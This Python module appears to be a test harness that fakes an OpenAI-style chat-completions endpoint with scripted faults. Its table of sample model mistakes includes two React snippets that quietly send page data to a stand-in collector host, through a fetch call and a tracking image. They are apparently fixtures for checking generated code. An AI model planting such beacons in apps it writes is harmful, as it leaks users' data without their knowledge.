"""A language model's endpoint that is none: OpenAI's chat completions over real HTTP, with the faults that real ones have, on purpose.

    python -m bench.fake_model [--port 8099]

answers every request with an application made from the words it finds in the request's data. Tests and ``bench.generate`` give it a script instead.
It counts its calls and keeps what it was asked.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import re
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any


@dataclass(frozen=True)
class Says:
    """What the endpoint does with one call. ``pieces`` is how many parts the text is streamed in."""

    text: str = ""
    status: int = 200
    headers: Mapping[str, str] = field(default_factory=dict)
    pieces: int = 8
    first_token_s: float = 0.0
    piece_s: float = 0.0
    cut_after: int | None = None
    """Pieces after which the connection is dropped."""
    never: bool = False
    """No answer at all, until the client goes away or the endpoint is closed."""
    finish: str = "stop"
    usage: Mapping[str, Any] | None = field(default_factory=lambda: {"prompt_tokens": 1200, "completion_tokens": 300})
    """None: the provider does not say."""
    event: str | None = None
    """A raw line sent in place of the second piece: an error within the stream, or no JSON."""


Script = Callable[[int, dict[str, Any]], Says]
"""From the call's number (0, 1, ...) and the request's body to what is said."""


class FakeModel:
    """``with FakeModel(script) as fake: fake.url``"""

    def __init__(self, script: Script, port: int = 0) -> None:
        self.script = script
        self.asked: list[dict[str, Any]] = []
        self.keys: list[str] = []
        self.times: list[float] = []
        self.hung_up = 0
        """Calls whose client went away before the end."""
        self._lock = threading.Lock()
        self._over = threading.Event()
        self._server = ThreadingHTTPServer(("127.0.0.1", port), _handler(self))
        self._server.daemon_threads = True

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}/v1"

    @property
    def calls(self) -> int:
        return len(self.asked)

    def __enter__(self) -> FakeModel:
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        self._server.shutdown()
        self._server.server_close()

    def answer(self, body: dict[str, Any], key: str) -> Says:
        with self._lock:
            number = len(self.asked)
            self.asked.append(body)
            self.keys.append(key)
            self.times.append(time.monotonic())
        return self.script(number, body)


def _handler(fake: FakeModel) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["content-length"])))
            if not self.path.endswith("/chat/completions"):
                return self._json(404, {"error": {"message": f"no such path {self.path}"}}, {})
            says = fake.answer(body, self.headers.get("authorization", ""))
            try:
                if says.never:
                    self._wait_for_the_end()
                elif says.status != 200:
                    self._json(says.status, {"error": {"message": says.text or f"status {says.status}", "type": "fault"}}, says.headers)
                else:
                    self._stream(says, body)
            except (BrokenPipeError, ConnectionResetError):
                fake.hung_up += 1
                self.close_connection = True
            return None

        def _wait_for_the_end(self) -> None:
            self.connection.settimeout(0.1)
            while not fake._over.is_set():
                with contextlib.suppress(TimeoutError):
                    if not self.connection.recv(1):
                        fake.hung_up += 1
                        break
            self.close_connection = True

        def _json(self, status: int, document: Any, headers: Mapping[str, str]) -> None:
            content = json.dumps(document).encode()
            self.send_response(status)
            for name, value in {"content-type": "application/json", "content-length": str(len(content)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(content)

        def _stream(self, says: Says, body: dict[str, Any]) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/event-stream")
            self.send_header("connection", "close")
            self.end_headers()
            self.close_connection = True
            fake._over.wait(says.first_token_s)
            size = max(1, -(-len(says.text) // says.pieces))
            pieces = [says.text[i : i + size] for i in range(0, len(says.text), size)]
            for number, piece in enumerate(pieces):
                if says.cut_after is not None and number >= says.cut_after:
                    return
                if number == 1 and says.event is not None:
                    self.wfile.write(f"data: {says.event}\n\n".encode())
                self._chunk(body, {"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]})
                if says.piece_s:
                    fake._over.wait(says.piece_s)
            self._chunk(body, {"choices": [{"index": 0, "delta": {}, "finish_reason": says.finish}]})
            if says.usage is not None:
                self._chunk(body, {"choices": [], "usage": {"total_tokens": 0, **says.usage}})
            self.wfile.write(b"data: [DONE]\n\n")

        def _chunk(self, body: dict[str, Any], more: dict[str, Any]) -> None:
            chunk = {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": body.get("model", ""), **more}
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
            self.wfile.flush()

        def log_message(self, *_: object) -> None:
            pass

    return Handler


# ---- answers -------------------------------------------------------------------------------------------------------------


def spec(title: str = "Fleet", **entities: list[str]) -> dict[str, Any]:
    """A spec as a model would give it: ``spec("Fleet", trucks=["plate", "mileage: integer"])``."""
    made = []
    for plural, fields in entities.items():
        listed = []
        for item in fields:
            label, _, kind = item.partition(":")
            listed.append(
                {"label": label.strip(), "type": kind.strip() or "text", "required": False, "options": [], "target": None, "unit": ""}
            )
        made.append({"singular": plural.removesuffix("s"), "plural": plural, "fields": listed})
    return {"title": title, "description": "", "entities": made, "theme": {"accent": "", "scheme": ""}, "notes": []}


def answer(spec: Mapping[str, Any] | None, files: Mapping[str, str] | None = None) -> str:
    document: dict[str, Any] = {"spec": spec}
    if files is not None:
        document["files"] = [{"path": p, "content": c} for p, c in files.items()]
    return json.dumps(document)


def data_of(body: Mapping[str, Any]) -> dict[str, Any]:
    """What stands between the marks of a request's last message, as the model sees it."""
    text = body["messages"][-1]["content"]
    match = re.search(r"<data-([0-9a-f]+)>\n(.*?)\n</data-\1>", text, re.S)
    assert match, "the request holds no marked data"
    found: dict[str, Any] = json.loads(match[2])
    return found


FAULTS: dict[str, dict[str, str]] = {
    "type error": {
        "src/pages/HomePage.tsx": "export function HomePage() {\n  const total: number = 'twelve';\n  return <main><h1>Total {total}</h1></main>;\n}\n"
    },
    "missing import": {
        "src/pages/HomePage.tsx": "export function HomePage() {\n  const [open, setOpen] = useState<boolean>(false);\n  return <main><h1>Welcome</h1><button type=\"button\" onClick={() => setOpen(!open)}>{open ? 'Less' : 'More'}</button></main>;\n}\n"
    },
    "html attribute": {
        "src/pages/HomePage.tsx": 'export function HomePage() {\n  return <main class="home"><h1 style="color: #222; font-size: 24px">Welcome</h1></main>;\n}\n'
    },
    "hidden request": {
        "src/pages/HomePage.tsx": "import { useEffect } from 'react';\n\nexport function HomePage() {\n  useEffect(() => { void fetch('https://collect.example.net/?c=' + document.title); }, []);\n  return <main><h1>Welcome</h1></main>;\n}\n"
    },
    "hidden picture": {
        "src/pages/HomePage.tsx": 'export function HomePage() {\n  return <main><h1>Welcome</h1><img src="https://collect.example.net/p.png" alt="" /></main>;\n}\n'
    },
    "endless loop": {
        "src/pages/HomePage.tsx": "export function HomePage() {\n  let n = 0;\n  while (n >= 0) n = (n + 1) % 1000;\n  return <main><h1>Welcome {n}</h1></main>;\n}\n"
    },
    "foreign import": {
        "src/pages/HomePage.tsx": "import { debounce } from 'lodash';\n\nexport function HomePage() {\n  return <main><h1>Welcome {String(debounce)}</h1></main>;\n}\n"
    },
    "throws": {
        "src/pages/HomePage.tsx": "export function HomePage() {\n  const items: string[] = JSON.parse('null');\n  return <main><h1>Welcome</h1><p>{items.length}</p></main>;\n}\n"
    },
    "bad sql": {"supabase/migrations/0002_more.sql": "ALTER TABLE no_such_table ADD COLUMN note text;\n"},
    "no key in a list of inputs": {
        "src/pages/HomePage.tsx": 'export function HomePage() {\n  return <main><h1>Welcome</h1><input type="text" /></main>;\n}\n'
    },
}
"""What models typically get wrong, each as the files they would add."""
GOOD_HOME = {
    "src/pages/HomePage.tsx": "export function HomePage() {\n  return (\n    <main>\n      <h1>Welcome</h1>\n    </main>\n  );\n}\n"
}


def reads_the_data(number: int, body: dict[str, Any]) -> Says:
    """An honest model of little wit: an entity of the words of the request."""
    data = data_of(body)
    words = re.findall(
        r"[^\W\d_]{4,}",
        json.dumps(data.get("request", ""), ensure_ascii=False) + json.dumps(data.get("seen_on_screen", ""), ensure_ascii=False),
    )
    fields = list(dict.fromkeys(w.lower() for w in words))[:6] or ["name"]
    return Says(answer(spec("Records", records=fields)), usage={"prompt_tokens": len(json.dumps(body)) // 4, "completion_tokens": 200})


@contextlib.contextmanager
def running(*says: Says, port: int = 0) -> Iterator[FakeModel]:
    """An endpoint that says these one after the other, and the last one ever after."""
    with FakeModel(lambda n, _: says[min(n, len(says) - 1)], port) as fake:
        yield fake


def main() -> None:
    parser = argparse.ArgumentParser(
        prog="python -m bench.fake_model", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--port", type=int, default=8099)
    options = parser.parse_args()
    with FakeModel(reads_the_data, options.port) as fake:
        print(f"MILLRACE_MODEL_URL={fake.url} MILLRACE_MODEL=fake  (Ctrl-C stops)", flush=True)
        with contextlib.suppress(KeyboardInterrupt):
            threading.Event().wait()


if __name__ == "__main__":
    main()
